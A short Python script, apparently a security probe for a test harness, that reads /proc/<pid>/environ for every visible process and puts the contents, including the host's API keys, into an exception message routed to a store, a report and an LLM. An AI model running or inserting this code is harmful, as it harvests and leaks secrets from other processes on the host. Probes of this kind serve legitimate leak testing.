# Reads the environment of every other process it can see (the host's API
# keys live there) and puts it in its failure message, which goes to the
# store, the report and the LLM.
import os

found = []
pids = sorted({p for p in os.listdir("/proc") if p.isdigit()} | {str(os.getppid())})
for pid in pids:
    if pid == str(os.getpid()):
        continue
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            found.append(f"pid {pid}: " + f.read().replace(b"\0", b" ").decode(errors="replace"))
    except OSError as e:
        found.append(f"pid {pid}: {type(e).__name__}")
raise RuntimeError(f"visible processes: {len(pids)}; environments: " + " | ".join(found))
